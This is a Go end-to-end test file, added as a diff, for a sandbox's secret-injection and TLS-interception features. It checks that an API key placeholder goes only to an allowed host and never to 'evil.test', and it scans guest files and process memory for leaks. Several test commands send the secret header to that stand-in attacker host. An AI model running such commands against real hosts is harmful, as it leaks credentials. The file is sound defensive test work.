@@ -1,0 +1,448 @@
+package e2e
+
+import (
+	"bufio"
+	"bytes"
+	"crypto/ecdsa"
+	"crypto/elliptic"
+	"crypto/rand"
+	"crypto/tls"
+	"crypto/x509"
+	"crypto/x509/pkix"
+	"encoding/hex"
+	"encoding/pem"
+	"errors"
+	"fmt"
+	"io"
+	"io/fs"
+	"log"
+	"math/big"
+	"net"
+	"net/http"
+	"os"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"golang.org/x/sys/unix"
+)
+
+// secureSite is an HTTPS server on every address of a space, for any name, and what it was sent.
+type secureSite struct {
+	ca  string // the file with the authority of its certificates
+	web *http.Server
+
+	mu  sync.Mutex
+	got map[string]string // by host
+}
+
+// secure starts one in the space.
+func (s *space) secure() *secureSite {
+	s.w.t.Helper()
+	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	s.w.must(err)
+	now := time.Now()
+	ca := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "e2e"}, NotBefore: now.Add(-time.Hour), NotAfter: now.Add(time.Hour),
+		IsCA: true, BasicConstraintsValid: true, KeyUsage: x509.KeyUsageCertSign}
+	der, err := x509.CreateCertificate(rand.Reader, ca, ca, &key.PublicKey, key)
+	s.w.must(err)
+	site := &secureSite{ca: filepath.Join(s.w.top, "ca.pem"), got: map[string]string{}}
+	s.w.write(site.ca, string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})), 0o644)
+	certificate := func(h *tls.ClientHelloInfo) (*tls.Certificate, error) {
+		leaf := &x509.Certificate{SerialNumber: big.NewInt(time.Now().UnixNano()), NotBefore: now.Add(-time.Hour), NotAfter: now.Add(time.Hour),
+			DNSNames: []string{h.ServerName}, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}}
+		der, err := x509.CreateCertificate(rand.Reader, leaf, ca, &key.PublicKey, key)
+		return &tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}, err
+	}
+	site.web = &http.Server{Handler: site, TLSConfig: &tls.Config{GetCertificate: certificate}, ErrorLog: log.New(io.Discard, "", 0)}
+	var l net.Listener
+	s.do(func() { l, err = net.Listen("tcp", "[::]:443") })
+	s.w.must(err)
+	go func() { _ = site.web.ServeTLS(l, "", "") }()
+	s.w.t.Cleanup(func() { _ = site.web.Close() })
+	return site
+}
+
+// ServeHTTP notes what came and answers with the request's protocol.
+func (s *secureSite) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	body, _ := io.ReadAll(r.Body)
+	var b strings.Builder
+	fmt.Fprintf(&b, "%s %s %s\n", r.Method, r.RequestURI, r.Proto)
+	_ = r.Header.Write(&b)
+	s.mu.Lock()
+	s.got[r.Host] += b.String() + string(body) + "\n"
+	s.mu.Unlock()
+	if strings.Contains(r.URL.Path, "/info/refs") {
+		w.Header().Set("Content-Type", "application/x-git-upload-pack-advertisement")
+		ref := strings.Repeat("1", 40) + " refs/heads/e2e\n"
+		fmt.Fprintf(w, "001e# service=git-upload-pack\n0000%04x%s0000", len(ref)+4, ref)
+		return
+	}
+	fmt.Fprintf(w, "hello over %s", r.Proto)
+}
+
+// sent returns what a host was sent.
+func (s *secureSite) sent(host string) string {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	return s.got[host]
+}
+
+func init() {
+	names["api.good.test."], names["evil.test."] = []string{public4, public6}, []string{public4, public6}
+}
+
+// newValue is a value that is found nowhere by chance.
+func newValue() string {
+	var b [16]byte
+	_, _ = rand.Read(b[:])
+	return "sk-e2e-" + hex.EncodeToString(b[:])
+}
+
+// TestSecretClients has programs of this machine, in a guest, use a secret of which they know nothing but the placeholder.
+func TestSecretClients(t *testing.T) {
+	if !inPrivate(t) {
+		return
+	}
+	clients := map[string]string{
+		"curl":        `curl -sS --fail -H "Authorization: Bearer $API_KEY" https://HOST/curl`,
+		"curl 1.1":    `curl -sS --fail --http1.1 -u "me:$API_KEY" https://HOST/curl1`,
+		"python":      `python3 -c 'import os,urllib.request as u; print(u.urlopen(u.Request("https://HOST/python", headers={"X-Key": os.environ["API_KEY"]})).read().decode())'`,
+		"node":        `node -e 'require("https").get("https://HOST/node", {headers: {"x-key": process.env.API_KEY}}, r => r.on("data", d => process.stdout.write(d)))'`,
+		"node fetch":  `node -e 'fetch("https://HOST/fetch", {headers: {"x-key": process.env.API_KEY}}).then(r => r.text()).then(console.log)'`,
+		"git":         `git -c http.extraHeader="Authorization: token $API_KEY" ls-remote https://HOST/repo.git`,
+		"wget":        `wget -qO- --header="X-Key: $API_KEY" https://HOST/wget`,
+		"openssl":     `printf 'GET /openssl HTTP/1.0\r\nHost: HOST\r\nX-Key: %s\r\n\r\n' "$API_KEY" | openssl s_client -quiet -verify_return_error -connect HOST:443 -servername HOST`,
+		"curl upload": `head -c 3000000 /dev/zero | curl -sS --fail -T - -H "X-Key: $API_KEY" https://HOST/upload`,
+	}
+	each(t, func(w *world) {
+		s := w.space()
+		site := s.secure()
+		value := newValue()
+		w.env = append(w.env, "API_KEY="+value)
+		script := "export HOME=/tmp\n"
+		for name, c := range clients {
+			tool := strings.Fields(c)[0]
+			if tool == "printf" {
+				tool = "openssl"
+			}
+			for _, host := range []string{"api.good.test", "evil.test"} {
+				script += fmt.Sprintf("if command -v %s >/dev/null; then out=$( { %s; } 2>&1 ); echo \"%s at %s: $? $out\" | tr '\\n' ' '; echo; else echo '%s at %s: none'; fi\n",
+					tool, strings.ReplaceAll(c, "HOST", host), name, host, name, host)
+			}
+		}
+		r := s.run("run", "--secret", "API_KEY@api.good.test", "--tls-upstream-ca-cert", site.ca, "host", "--", "sh", "-c", script)
+		if r.code != 0 {
+			t.Fatalf("exit code %d: %s %s", r.code, r.out, r.err)
+		}
+		ran := 0
+		for name := range clients {
+			good, evil := lineOf(r.out, name+" at api.good.test: "), lineOf(r.out, name+" at evil.test: ")
+			if good == "none" {
+				continue
+			}
+			ran++
+			if !strings.HasPrefix(good, "0 ") || !strings.Contains(good, "hello over") && !strings.Contains(good, "refs/heads/e2e") {
+				t.Errorf("%s: %q", name, good)
+			}
+			if strings.Contains(evil, "hello over") || strings.Contains(evil, "refs/heads") {
+				t.Errorf("%s sent the placeholder to another host: %q", name, evil)
+			}
+			path := strings.SplitN(strings.SplitN(clients[name], "HOST/", 2)[len(strings.SplitN(clients[name], "HOST/", 2))-1], "\"", 2)[0]
+			if name != "openssl" && !strings.Contains(site.sent("api.good.test"), strings.Fields(path)[0]) {
+				t.Errorf("%s: its request did not come", name)
+			}
+		}
+		if ran < 3 {
+			t.Errorf("only %d clients are on this machine", ran)
+		}
+		if n := strings.Count(site.sent("api.good.test"), value); n < ran-1 { // curl 1.1 sends it in base64
+			t.Errorf("the value came %d times, of %d clients", n, ran)
+		}
+		if got := site.sent("evil.test"); got != "" {
+			t.Errorf("the other host was sent %q", got)
+		}
+		if strings.Contains(r.out+r.err, value) {
+			t.Error("the guest has seen the value")
+		}
+	})
+}
+
+func lineOf(out, prefix string) string {
+	for l := range strings.SplitSeq(out, "\n") {
+		if rest, ok := strings.CutPrefix(l, prefix); ok {
+			return strings.TrimSpace(rest)
+		}
+	}
+	return "missing"
+}
+
+// TestSecretIsNowhere looks for a value that is in use everywhere but in the one process that must have it.
+func TestSecretIsNowhere(t *testing.T) {
+	if !inPrivate(t) {
+		return
+	}
+	each(t, func(w *world) {
+		s := w.space()
+		site := s.secure()
+		value := newValue()
+		w.env = append(w.env, "API_KEY="+value)
+		w.t.Cleanup(func() { s.run("rm", "-f", "-q", "keeper") })
+		if r := s.run("run", "-d", "-q", "--name", "keeper", "--log-level", "trace", "--secret", "API_KEY@api.good.test", "--tls-upstream-ca-cert", site.ca, "host"); r.code != 0 {
+			t.Fatalf("%d %s", r.code, r.err)
+		}
+		w.env = w.env[:len(w.env)-1] // no command needs it from here on
+		use := `curl -sS -o /tmp/out -H "X-Key: $API_KEY" https://api.good.test/; curl -sS -o /tmp/out2 -H "X-Key: $API_KEY" https://evil.test/; cat /tmp/out /tmp/out2; env > /tmp/env`
+		if r := s.run("exec", "keeper", "--", "sh", "-c", use); r.code != 0 || !strings.Contains(r.out, "hello over") || !strings.Contains(r.out, "denied by policy: secret API_KEY may not go to evil.test") {
+			t.Fatalf("%d %s %s", r.code, r.out, r.err)
+		}
+		if !strings.Contains(site.sent("api.good.test"), value) {
+			t.Fatal("the value was not used")
+		}
+		// In the guest: its files, its processes' arguments and environments. The pattern is not in the command.
+		look := fmt.Sprintf(`p='%s[%s]%s'; grep -rls -- "$p" /etc /tmp /root /var /home /run /.msb /dev/shm; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline | grep -c -a -- "$p"; grep -c MSB_API_KEY /tmp/env`, value[:12], value[12:13], value[13:])
+		if r := s.run("exec", "keeper", "--", "sh", "-c", look); strings.TrimSpace(r.out) != "0\n1" {
+			t.Errorf("in the guest: %q %q", r.out, r.err)
+		}
+		if r := s.run("inspect", "keeper", "--format", "json"); strings.Contains(r.out, value) || !strings.Contains(r.out, "$MSB_API_KEY") {
+			t.Errorf("inspect: %s", r.out)
+		}
+		runner := w.runner("keeper")
+		var read int64
+		seen := false
+		for _, pid := range append(descendants(runner), runner) {
+			for _, f := range []string{"cmdline", "environ"} {
+				if b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/%s", pid, f)); bytes.Contains(b, []byte(value)) {
+					t.Errorf("it is in the %s of process %d", f, pid)
+				}
+			}
+			fds, _ := os.ReadDir(fmt.Sprintf("/proc/%d/fd", pid))
+			for _, fd := range fds {
+				if to, _ := os.Readlink(fmt.Sprintf("/proc/%d/fd/%s", pid, fd.Name())); strings.Contains(to, "msb-config") {
+					t.Errorf("process %d has the launch config open", pid)
+				}
+			}
+			limits, err := os.ReadFile(fmt.Sprintf("/proc/%d/limits", pid))
+			if errors.Is(err, fs.ErrNotExist) { // of a command that has ended
+				continue
+			}
+			w.must(err)
+			if l := lineOf(string(limits), "Max core file size"); !strings.HasPrefix(l, "1 ") && !strings.HasPrefix(l, "0 ") {
+				t.Errorf("process %d may dump core: %q", pid, l)
+			}
+			has, size := w.inMemory(pid, value)
+			read += size
+			if placeholder, _ := w.inMemory(pid, "X-Key: $MSB_API_KEY"); placeholder && pid != runner {
+				seen = true // so that it is known that what is in a guest is found
+			}
+			if has != (pid == runner) {
+				t.Errorf("memory of process %d (the runner is %d): %v, of %d bytes", pid, runner, has, size)
+			}
+		}
+		if read < 64<<20 || !seen {
+			t.Errorf("only %d bytes of memory could be read, the placeholder among them: %v", read, seen)
+		}
+		w.nowhereIn(value, w.home, "/dev/shm")
+		if r := s.run("stop", "-q", "keeper"); r.code != 0 {
+			t.Errorf("stop: %s", r.err)
+		}
+		w.nowhereIn(value, w.home, "/dev/shm")
+	})
+}
+
+// nowhereIn looks for a value in every file below directories.
+func (w *world) nowhereIn(value string, dirs ...string) {
+	w.t.Helper()
+	for _, dir := range dirs {
+		_ = filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
+			if err != nil || !d.Type().IsRegular() {
+				return nil
+			}
+			f, err := os.Open(path)
+			if err != nil {
+				return nil
+			}
+			defer f.Close()
+			if contains(f, value) {
+				w.t.Errorf("it is in the file %s", path)
+			}
+			return nil
+		})
+	}
+}
+
+// contains looks for text in a stream.
+func contains(r io.Reader, text string) bool {
+	buf := make([]byte, 1<<20)
+	kept := 0
+	for {
+		n, err := r.Read(buf[kept:])
+		if bytes.Contains(buf[:kept+n], []byte(text)) {
+			return true
+		}
+		if err != nil {
+			return false
+		}
+		keep := min(len(text)-1, kept+n)
+		copy(buf, buf[kept+n-keep:kept+n])
+		kept = keep
+	}
+}
+
+// inMemory looks for a value in the memory of a process, as gcore would write it.
+func (w *world) inMemory(pid int, value string) (found bool, size int64) {
+	w.t.Helper()
+	maps, err := os.Open(fmt.Sprintf("/proc/%d/maps", pid))
+	if err == nil {
+		defer maps.Close()
+	}
+	mem, merr := os.Open(fmt.Sprintf("/proc/%d/mem", pid))
+	if merr == nil {
+		defer mem.Close()
+	}
+	if err = errors.Join(err, merr); errors.Is(err, fs.ErrNotExist) || errors.Is(err, unix.ESRCH) { // of a command that has ended
+		return false, 0
+	}
+	w.must(err)
+	const huge = 8 << 30 // what is reserved and not used
+	for lines := bufio.NewScanner(maps); lines.Scan(); {
+		f := strings.Fields(lines.Text())
+		from, to, _ := strings.Cut(f[0], "-")
+		begin, _ := strconv.ParseUint(from, 16, 63)
+		end, _ := strconv.ParseUint(to, 16, 63)
+		if !strings.HasPrefix(f[1], "r") || end-begin > huge || strings.Contains(lines.Text(), "[v") || strings.Contains(lines.Text(), "memfd:") {
+			continue
+		}
+		read := &counted{r: io.NewSectionReader(mem, int64(begin), int64(end-begin))}
+		found = contains(read, value) || found
+		size += read.n
+	}
+	// The guest's memory is a file with holes, which reading it in the process would fill.
+	fds, _ := os.ReadDir(fmt.Sprintf("/proc/%d/fd", pid))
+	for _, fd := range fds {
+		path := fmt.Sprintf("/proc/%d/fd/%s", pid, fd.Name())
+		if to, _ := os.Readlink(path); !strings.Contains(to, "memfd:") {
+			continue
+		}
+		f, err := os.Open(path)
+		if err != nil {
+			continue
+		}
+		for at := int64(0); ; {
+			begin, err := unix.Seek(int(f.Fd()), at, unix.SEEK_DATA)
+			if err != nil {
+				break
+			}
+			if at, err = unix.Seek(int(f.Fd()), begin, unix.SEEK_HOLE); err != nil {
+				break
+			}
+			found = contains(io.NewSectionReader(f, begin, at-begin), value) || found
+			size += at - begin
+		}
+		f.Close()
+	}
+	return found, size
+}
+
+type counted struct {
+	r io.Reader
+	n int64
+}
+
+func (c *counted) Read(p []byte) (int, error) {
+	n, err := c.r.Read(p)
+	c.n += int64(n)
+	return n, err
+}
+
+func TestSecretViolationEnds(t *testing.T) {
+	if !inPrivate(t) {
+		return
+	}
+	each(t, func(w *world) {
+		s := w.space()
+		site := s.secure()
+		w.env = append(w.env, "API_KEY="+newValue())
+		begin := time.Now()
+		r := s.run("run", "--secret", "API_KEY@api.good.test", "--on-secret-violation", "block-and-terminate", "--tls-upstream-ca-cert", site.ca, "host", "--",
+			"sh", "-c", `curl -sS -H "X-Key: $API_KEY" https://evil.test/; sleep 100`)
+		if r.code == 0 || time.Since(begin) > 50*time.Second || !strings.Contains(r.err, "secret API_KEY may not go to evil.test") {
+			t.Errorf("%d %q %q", r.code, r.out, r.err)
+		}
+		if got := site.sent("evil.test"); got != "" {
+			t.Errorf("the other host was sent %q", got)
+		}
+	})
+}
+
+// TestSecretOfKept has a sandbox that is kept use the value that there is when it starts.
+func TestSecretOfKept(t *testing.T) {
+	if !inPrivate(t) {
+		return
+	}
+	each(t, func(w *world) {
+		s := w.space()
+		site := s.secure()
+		w.t.Cleanup(func() { s.run("rm", "-f", "-q", "kept") })
+		if r := s.run("create", "-q", "--name", "kept", "--secret", "API_KEY@api.good.test", "--tls-upstream-ca-cert", site.ca, "host"); r.code == 0 ||
+			!strings.Contains(r.err, "environment variable API_KEY") {
+			t.Fatalf("without a value: %d %s", r.code, r.err)
+		}
+		for i := range 2 {
+			value := newValue()
+			w.env = append(w.env, "API_KEY="+value)
+			what := []string{"start", "-q", "kept"}
+			if i == 0 {
+				what = []string{"create", "-q", "--name", "kept", "--secret", "API_KEY@api.good.test", "--tls-upstream-ca-cert", site.ca, "host"}
+			}
+			if r := s.run(what...); r.code != 0 {
+				t.Fatalf("%s: %s", what[0], r.err)
+			}
+			w.env = w.env[:len(w.env)-1]
+			r := s.run("exec", "kept", "--", "sh", "-c", `curl -sS -H "X-Key: $API_KEY" https://api.good.test/; grep -c BEGIN /.msb/tls/ca.pem; grep -cF "$(sed -n 2p /.msb/tls/ca.pem)" /etc/ssl/certs/ca-certificates.crt`)
+			if r.code != 0 || !strings.HasSuffix(strings.TrimSpace(r.out), "1\n1") || !strings.Contains(site.sent("api.good.test"), value) {
+				t.Errorf("time %d: %d %q %q", i, r.code, r.out, r.err)
+			}
+			if r := s.run("stop", "-q", "kept"); r.code != 0 {
+				t.Errorf("stop: %s", r.err)
+			}
+			w.nowhereIn(value, w.home)
+		}
+	})
+}
+
+// TestInterceptAndTrust looks into TLS without any secret, and lets guests trust what this machine does.
+func TestInterceptAndTrust(t *testing.T) {
+	if !inPrivate(t) {
+		return
+	}
+	each(t, func(w *world) {
+		s := w.space()
+		site := s.secure()
+		issuer := `openssl s_client -connect api.good.test:443 -servername api.good.test </dev/null 2>/dev/null | openssl x509 -noout -issuer`
+		for what, x := range map[string]struct {
+			flags  []string
+			issuer string
+		}{
+			"not looked into":  {nil, "e2e"},
+			"looked into":      {[]string{"--tls-intercept", "--tls-upstream-ca-cert", site.ca}, "microsandbox CA"},
+			"for this host":    {[]string{"--tls-intercept", "--tls-upstream-ca-cert-for", "*.good.test=" + site.ca}, "microsandbox CA"},
+			"for another host": {[]string{"--tls-intercept", "--tls-upstream-ca-cert-for", "*.bad.test=" + site.ca}, ""},
+			"without proof":    {[]string{"--tls-intercept", "--tls-no-verify-upstream-for", "api.good.test"}, "microsandbox CA"},
+			"another port":     {[]string{"--tls-intercept-port", "8443"}, "e2e"},
+			"let pass":         {[]string{"--tls-intercept", "--tls-bypass", "*.good.test"}, "e2e"},
+		} {
+			r := s.run(append(append([]string{"run"}, x.flags...), "host", "--", "sh", "-c", issuer)...)
+			if (x.issuer == "") != (r.out == "") || !strings.Contains(r.out, x.issuer) {
+				t.Errorf("%s: the issuer is %q, want %q; %s", what, r.out, x.issuer, r.err)
+			}
+		}
+		r := s.run("run", "--trust-host-cas", "host", "--", "sh", "-c", `grep -c BEGIN "$SSL_CERT_FILE"; test -s /.msb/tls/ca.pem && echo yes`)
+		if n, err := strconv.Atoi(strings.Fields(r.out + " x")[0]); err != nil || n < 10 || !strings.Contains(r.out, "yes") {
+			t.Errorf("what this machine trusts: %q %q", r.out, r.err)
+		}
+	})
+}
